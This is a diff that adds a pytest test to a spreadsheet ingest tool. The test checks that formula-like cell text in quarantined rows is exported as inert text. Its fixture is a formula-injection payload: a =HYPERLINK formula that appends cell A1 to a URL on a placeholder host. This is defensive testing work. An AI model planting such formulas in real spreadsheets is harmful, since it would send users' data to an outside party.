@@ -352,3 +352,24 @@ def test_subtotal_rows_per_street_are_skipped(tmp_path, con):
     res = import_file(con, write_xlsx(tmp_path / "分街道.xlsx", header, rows))
     assert (res.accepted, res.quarantined) == (3, 0)
     assert res.skipped_detail == {"合计行": 3, "空行": 1}
+
+
+def test_quarantined_text_that_looks_like_a_formula_comes_back_as_text(tmp_path, con, base_rows):
+    """A cell that starts with = in an uploaded file is returned in the quarantine workbook as text, not as a
+    live formula."""
+    import io
+
+    from python_calamine import CalamineWorkbook
+
+    from campaign.ingest.report import quarantine_excel
+
+    rows = [list(r) for r in base_rows[:2]]
+    rows[0][2] = '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看详情")'  # a bad 发现日期: quarantined
+    res = import_file(con, write_xlsx(tmp_path / "f.xlsx", LEDGER_HEADER, rows))
+    assert res.quarantined == 1
+    data = quarantine_excel([res])
+    import zipfile
+    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    listing = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("隔离清单").to_python()
+    assert listing[1][4].startswith("=HYPERLINK")
